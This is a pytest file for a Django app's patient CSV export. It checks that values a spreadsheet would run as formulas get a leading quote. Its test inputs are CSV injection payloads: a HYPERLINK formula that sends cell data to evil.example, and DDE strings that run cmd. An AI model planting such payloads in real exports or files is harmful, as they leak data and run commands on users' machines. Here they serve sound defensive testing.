"""The CSV exports neutralise text a spreadsheet would run as a formula (OWASP's CSV
injection advice): a leading single quote, numbers excepted."""

import csv
import io
from decimal import Decimal

import pytest
from django.urls import reverse

from sessions.views.export import neutralised
from tests.factories import CheckInFactory, PatientFactory, StartedCourseFactory
from tests.progress_helpers import days_ago
from tests.session_factories import SessionOnDateFactory

pytestmark = pytest.mark.django_db

URL = reverse("patients:export")
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A2,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def rows(response):
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))


@pytest.fixture
def hostile_patients(practitioner):
    """One patient per dangerous first character, each with a reading and a session."""
    patients = []
    for n, surname in enumerate(HOSTILE):
        patient = PatientFactory(given_name=f"Eve{n}", family_name=surname)
        StartedCourseFactory(patient=patient, accepted_by=practitioner, on=days_ago(10))
        CheckInFactory(patient=patient, taken_on=days_ago(3))
        SessionOnDateFactory(patient=patient, practitioner=practitioner, on=days_ago(5))
        patients.append(patient)
    return patients


@pytest.mark.parametrize("what", ["readings", "sessions"])
@pytest.mark.parametrize("surname", HOSTILE)
def test_the_identified_export_neutralises_a_formula_in_a_name(
    practitioner_client, hostile_patients, what, surname
):
    exported = rows(practitioner_client.get(URL, {"what": what}))
    assert exported[0][2] == "family_name"
    surnames = {row[2] for row in exported[1:]}
    assert "'" + surname in surnames
    assert surname not in surnames


@pytest.mark.parametrize("what", ["readings", "sessions"])
def test_no_cell_of_either_export_starts_a_formula(practitioner_client, hostile_patients, what):
    exported = rows(practitioner_client.get(URL, {"what": what}))
    assert len(exported) > len(HOSTILE)
    for row in exported:
        for cell in row:
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
            assert not cell.startswith("-") or neutralised(cell) == cell, cell


@pytest.mark.parametrize("cell", ["-3", "-1.5", "+4", "-0.25", -3, Decimal("-1.5"), 7, None])
def test_numbers_are_left_as_they_are(cell):
    assert neutralised(cell) == cell


@pytest.mark.parametrize(
    "cell, shown",
    [
        ("=1+1", "'=1+1"),
        ("+44 7700 900123", "'+44 7700 900123"),
        ("-3 days", "'-3 days"),
        ("-", "'-"),
        ("@here", "'@here"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("Silva", "Silva"),
        ("", ""),
        ("a=b", "a=b"),
    ],
)
def test_text_that_starts_a_formula_gets_a_quote(cell, shown):
    assert neutralised(cell) == shown
